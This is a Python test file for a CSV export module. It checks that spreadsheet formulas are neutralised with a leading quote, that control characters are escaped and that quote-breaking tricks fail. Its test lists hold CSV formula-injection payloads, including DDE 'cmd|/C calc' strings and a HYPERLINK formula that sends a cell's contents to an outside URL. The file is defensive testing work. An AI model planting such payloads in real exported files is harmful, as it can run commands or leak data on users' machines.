"""Cells of CSV: what a spreadsheet would run, and what would break a line, whatever files say."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from metadata_digger.sinks.cells import escaped, tame, tamed
from metadata_digger.sinks.columns import Columns, scan
from metadata_digger.sinks.csv import CsvSink
from metadata_digger.steps.rename import Naming

Rows = Callable[..., pa.RecordBatch]

RISKY = [
    "=1+1",
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\tx",
    "  =1",
    "\u00a0=1",
    "\u3000+x",
    "\ufeff=1",
    "\u200b@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "-",
    "--1",
    "=",
    "-1/3 EV",
    "-0.33 EV",
    "-1° 54' 51\"",
    "+1,a",
    "-1,",
    "-1;2",
    "-1 2",
    "-04:00",
    "-inf",
    "-1e",
    "-٣",  # a digit, and none of ours
    "+48 22 555 01 23",
]
HARMLESS = [
    "",
    "x",
    "'=1",
    "1=1",
    "a\t=1",
    "12.5",
    "-12.5",
    "+3",
    "-1.2E-5",
    "-.5",
    "-5.",
    " -5",
    "-1.9141666666666666",
    "-33.86,151.2",  # MD Location
    "-1,-2,+3.5e+4",
    "−5",  # a minus sign that no spreadsheet computes with
    "file:/a/=1.jpg",
    "\\n=1",
]


@pytest.mark.parametrize("text", RISKY)
def test_formulas_become_text(text: str) -> None:
    assert tame(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_all_else_stays(text: str) -> None:
    assert tame(text) == text


def test_columns_are_told_alike() -> None:
    texts = [*RISKY, *HARMLESS] * 3
    assert tamed(pa.array(texts)).to_pylist() == [tame(text) for text in texts]
    assert tamed(pa.array(texts).slice(5, 40)).to_pylist() == [tame(text) for text in texts[5:45]]
    assert tamed(pa.array([], pa.string())).to_pylist() == []


ESCAPES = [
    ("a\nb\r\nc\0", r"a\nb\r\nc\0"),
    ("\x01\x08\x0b\x0c\x1b[31m\x1f", r"\x01\x08\x0b\x0c\x1b[31m\x1f"),
    ("\x7f\x80\x85\x9f", r"\x7f\x80\x85\x9f"),
    ("\u2028\u2029", r"\u2028\u2029"),
    ("a\tb \\n °–’\u00a0\u202f 😀", "a\tb \\n °–’\u00a0\u202f 😀"),
    (None, ""),
    ("", ""),
]


def test_escapes() -> None:
    given, expected = (list(column) for column in zip(*ESCAPES, strict=True))
    assert escaped(pa.array(given, pa.string())).to_pylist() == expected
    assert escaped(pa.array(given, pa.string()).slice(2, 3)).to_pylist() == expected[2:5]
    assert escaped(pa.array([None, None], pa.string())).to_pylist() == ["", ""]
    assert escaped(pa.array(["°"], pa.string())).to_pylist() == ["°"]  # the last byte may begin an escape


# What strangers may write: any characters, more often those that matter here.
TEXTS = st.text(st.one_of(st.sampled_from("=+-@\t\r\n\0\x1b\"',;\\ ＝－1.5e\x85\u2028\u00a0"), st.characters()))
NUMBER = re.compile(r" *[+-]?[0-9.]+([eE][+-]?[0-9]+)?(,[+-]?[0-9.]+([eE][+-]?[0-9]+)?)* *")
OPTIONS = {"doublequote": True}, {"doublequote": False, "escapechar": "\\"}


def read(content: bytes, dialect: str) -> list[list[str]]:
    text = content.decode("utf-8")
    assert not [char for char in text if unicodedata.category(char) in ("Cc", "Zl", "Zp") and char not in "\n\t"]
    records = list(csv.reader(io.StringIO(text, newline=""), strict=True, **OPTIONS[dialect == "spark"]))
    assert len(records) == len(text.split("\n")) - 1
    return records


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(
    values=st.lists(TEXTS, min_size=1, max_size=4),
    names=st.lists(TEXTS.filter(bool), min_size=1, max_size=4, unique_by=lambda name: Naming().title(name).lower()),
    label=TEXTS,
    delimiter=st.sampled_from([",", "|", ";", "=", "\t", "\n"]),
    dialect=st.sampled_from(["rfc4180", "spark"]),
    content=st.booleans(),
    directories=st.booleans(),
)
@example(["=1"], ["=cmd|x"], "=2", "=", "rfc4180", True, False)
def test_nothing_in_a_file_becomes_a_formula(
    rows: Rows,
    tmp_path: Path,
    values: list[str],
    names: list[str],
    label: str,
    delimiter: str,
    dialect: str,
    content: bool,
    directories: bool,
) -> None:
    """Every row has every column, no cell is risky; `raw` gives the same without the quotes."""
    values, names, label = ([_valid(text) for text in values], [_valid(text) for text in names], _valid(label))
    tags = [("XMP", number, name, value) for number, (name, value) in enumerate(zip(names, values, strict=False))]
    batch = rows(
        {"tags": tags, "labels": [label, "x"], "file_path": f"file:/{label}"}, {"labels": [label]}, fields="full"
    )
    columns = Columns.of(batch.schema, scan(batch))
    found = []
    for raw in (False, True):
        naming = Naming(include_directories=directories)
        sink = CsvSink(naming, labels_delimiter=delimiter, content=content, dialect=dialect, raw=raw)
        sink.piece(iter([batch]), columns, tmp_path / "piece")
        sink.join([tmp_path / "piece"], columns, tmp_path / "out.csv")
        found.append(read((tmp_path / "out.csv").read_bytes(), dialect))
    safe, plain = found
    assert len(safe) == len(plain) == 3
    for record, as_it_is in zip(safe, plain, strict=True):
        assert len(record) == len(as_it_is) == len(safe[0])
        for cell, text in zip(record, as_it_is, strict=True):
            if dialect == "spark":
                # A value of blanks alone is two quotes in the old form.
                quoteless = text.replace('"', "''")
                assert cell in (quoteless, f"'{quoteless}", "" if text == '""' else quoteless)
            else:
                assert cell in (text, f"'{text}")
            assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠")) or NUMBER.fullmatch(cell), cell
            assert not cell.startswith("\t")


QUOTES = st.text(st.sampled_from("\",;\t\\\n=-@x '"), max_size=12)


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(values=st.lists(QUOTES, min_size=1, max_size=4), content=st.booleans())
@example(["x\",=cmd|'/c calc'!A1,\""], True)
@example(['22.8"', "x,=1"], False)  # the quote at the end of the first sets the second free
@example(['\\"', ",=1"], False)
def test_readers_that_know_doubled_quotes_alone_find_no_formula_in_the_old_form(
    rows: Rows, tmp_path: Path, values: list[str], content: bool
) -> None:
    tags = [("XMP", number, f"T {number}", value) for number, value in enumerate(values)]
    batch = rows({"tags": tags}, {"tags": tags})
    columns = Columns.of(batch.schema, scan(batch))
    sink = CsvSink(dialect="spark", content=content)
    sink.piece(iter([batch]), columns, tmp_path / "piece")
    sink.join([tmp_path / "piece"], columns, tmp_path / "out.csv")
    plain = read((tmp_path / "out.csv").read_bytes(), "rfc4180")
    with_backslashes = read((tmp_path / "out.csv").read_bytes(), "spark")
    assert [[cell.replace("\\\\", "\\") for cell in record] for record in plain] == with_backslashes
    for record in plain:
        assert len(record) == len(plain[0])
        for cell in record:
            assert tame(cell) == cell


def _valid(text: str) -> str:
    return text.encode("utf-8", "replace").decode()
